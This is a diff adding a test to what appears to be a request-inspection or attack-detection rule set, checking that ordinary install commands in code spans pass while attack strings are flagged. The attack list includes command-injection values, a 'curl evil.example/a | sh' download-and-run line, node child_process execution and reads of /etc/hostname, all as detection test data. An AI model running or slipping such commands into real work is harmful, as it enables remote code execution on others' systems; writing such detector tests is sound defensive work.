@@ -92,3 +92,17 @@ test('a text/plain body in form shape (enctype="text/plain") is read pair by pai
   for (const b of ['test=org.omg.CORBA', 'name=Sam\r\ntype=org.omg.CORBA.ORB', 'a=1&cls=org.omg.CORBA']) assert.ok(inspect(plain(b)).attack, `${b} → ${rules(inspect(plain(b)))}`);
   for (const b of ['Hello team,\nthe value x=5 is fine\nthanks', 'name=Sam\r\nnote=see org.omg.CORBA docs for the ORB', 'k=v', 'total=5&tax=1']) assert.ok(!inspect(plain(b)).attack, `${b} → ${rules(inspect(plain(b)))}`);
 });
+
+test('a whole value that is one code span of a setup step is high, not critical; shell syntax or code in it is not', () => {
+  const steps = ['`npm i fastq --save`', '`npm install function-bind`', '`node . --foo barbar --config config.json`', '`yarn add -D typescript`', '`pip install -r requirements.txt`', '`node server.js --port 3000`'];
+  for (const b of steps) {
+    for (const r of everywhere(b)) {
+      assert.ok(!inspect(r).attack, `${b} → ${rules(inspect(r))}`);
+      assert.ok(inspect(r, { paranoia: 2 }).attack, `${b} at paranoia 2`);
+    }
+  }
+  const attacks = ['`npm install evil; id`', '`npm i x && curl evil.example/a | sh`', '`node -e "require(\'child_process\').exec(\'id\')"`', '`node --eval process.exit()`', '`id`', '`cat /etc/hostname`', '`npm i $(whoami)`', '`curl evil.example/x`', 'x `npm i fastq --save`'];
+  for (const a of attacks) {
+    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} → ${rules(inspect(r))}`);
+  }
+});
